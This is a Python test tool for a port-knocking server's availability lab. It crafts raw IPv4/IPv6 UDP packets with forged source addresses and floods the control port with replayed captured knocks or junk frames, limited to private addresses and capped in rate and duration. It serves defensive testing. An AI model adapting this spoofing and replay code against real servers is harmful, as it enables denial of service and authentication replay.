#!/usr/bin/env python3
"""The lab's forged-source UDP sender: the attacker of the availability tests (AvailabilityLabIT).

Java cannot write raw IP packets, so this small tool does what an attacker with a raw socket does:
it builds each IPv4 or IPv6 + UDP packet itself, with a source address it does not own, and sends it
to letmeind's UDP control port at a bounded rate. Two payloads:

  replay FILE   the first KNOCK found in FILE (56-byte frames, e.g. a RecordingRelay capture):
                one captured knock, sent again and again from many forged sources
  junk          decodable but unauthenticated frames: the protocol magic, an operation 0-5, user
                00000001 (known: the MAC is wrong) or a random user id, random resource, salt and MAC

Usage: spoof.py MODE [FILE] --server ADDR --source-base ADDR --sources N --pps R
                (--count N | --seconds S) [--port 5800] [--seed N]

Sources are --source-base, --source-base + 1, ... (N addresses, round robin), each with its own source
port. Only private (10/8, 172.16/12, 192.168/16) and ULA (fc00::/7) addresses are accepted for both ends:
the tool is for the namespace lab and never sends anywhere else. The rate is capped at 20,000 pkt/s and
the duration at 300 s. On exit it prints one line: "sent=N seconds=S pps=R".
"""
import argparse
import ipaddress
import os
import random
import signal
import socket
import struct
import sys
import time

MAGIC = 0x3B1BB719
FRAME = 56
KNOCK = 0
MAX_PPS = 20_000
MAX_SECONDS = 300


def private(addr):
    if addr.version == 4:
        return any(addr in ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"))
    return addr in ipaddress.ip_network("fc00::/7")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_header(src, dst, sport, dport, payload):
    length = 8 + len(payload)
    if src.version == 4:
        pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
    else:
        pseudo = src.packed + dst.packed + struct.pack("!I3xB", length, socket.IPPROTO_UDP)
    csum = checksum(pseudo + struct.pack("!HHHH", sport, dport, length, 0) + payload)
    return struct.pack("!HHHH", sport, dport, length, csum or 0xFFFF)


def packet(src, dst, sport, dport, payload):
    udp = udp_header(src, dst, sport, dport, payload) + payload
    if src.version == 4:
        # total length and header checksum are filled in by the kernel (IP_HDRINCL)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                         src.packed, dst.packed)
    else:
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(udp), socket.IPPROTO_UDP, 64, src.packed, dst.packed)
    return ip + udp


def first_knock(path):
    data = open(path, "rb").read()
    for off in range(0, len(data) - FRAME + 1, FRAME):
        frame = data[off:off + FRAME]
        magic, op = struct.unpack("!II", frame[:8])
        if magic == MAGIC and op == KNOCK:
            return frame
    sys.exit("spoof.py: no KNOCK frame in %s (%d bytes)" % (path, len(data)))


def junk_frame(rng):
    user = 1 if rng.random() < 0.5 else rng.randrange(2, 1 << 32)
    return struct.pack("!IIII", MAGIC, rng.randrange(0, 6), user, rng.randrange(0, 1 << 32)) + rng.randbytes(40)


def main():
    p = argparse.ArgumentParser(description="forged-source UDP sender for the letmein lab")
    p.add_argument("mode", choices=("replay", "junk"))
    p.add_argument("file", nargs="?")
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, default=5800)
    p.add_argument("--source-base", required=True)
    p.add_argument("--sources", type=int, required=True)
    p.add_argument("--pps", type=int, required=True)
    p.add_argument("--count", type=int)
    p.add_argument("--seconds", type=float)
    p.add_argument("--seed", type=int, default=None)
    a = p.parse_args()
    server = ipaddress.ip_address(a.server)
    base = ipaddress.ip_address(a.source_base)
    if server.version != base.version:
        sys.exit("spoof.py: --server and --source-base must be of one address family")
    if not (1 <= a.sources <= 65_536 and 1 <= a.pps <= MAX_PPS and 1 <= a.port <= 65_535):
        sys.exit("spoof.py: --sources 1..65536, --pps 1..%d, --port 1..65535" % MAX_PPS)
    if (a.count is None) == (a.seconds is None):
        sys.exit("spoof.py: give exactly one of --count and --seconds")
    limit_seconds = min(a.seconds if a.seconds is not None else MAX_SECONDS, MAX_SECONDS)
    count = a.count if a.count is not None else 10**9
    sources = [base + i for i in range(a.sources)]
    for addr in [server] + [sources[0], sources[-1]]:
        if not private(addr):
            sys.exit("spoof.py: %s is not a private or ULA address: refusing to send" % addr)
    if a.mode == "replay" and not a.file:
        sys.exit("spoof.py: replay needs the capture FILE")
    signal.signal(signal.SIGTERM, lambda *_: (_ for _ in ()).throw(KeyboardInterrupt()))
    rng = random.Random(a.seed if a.seed is not None else os.getpid())
    knock = first_knock(a.file) if a.mode == "replay" else None
    sports = [rng.randrange(20_000, 60_000) for _ in sources]
    family = socket.AF_INET if server.version == 4 else socket.AF_INET6
    sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    if family == socket.AF_INET:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    target = (str(server), 0)
    interval = 1.0 / a.pps
    start = time.monotonic()
    sent = 0
    try:
        while sent < count:
            now = time.monotonic()
            if now - start >= limit_seconds:
                break
            due = start + sent * interval
            if due > now:
                time.sleep(due - now)
            i = sent % len(sources)
            payload = knock if knock is not None else junk_frame(rng)
            sock.sendto(packet(sources[i], server, sports[i], a.port, payload), target)
            sent += 1
    except KeyboardInterrupt:
        pass
    finally:
        elapsed = time.monotonic() - start
        print("sent=%d seconds=%.2f pps=%.0f" % (sent, elapsed, sent / elapsed if elapsed > 0 else 0), flush=True)


if __name__ == "__main__":
    main()
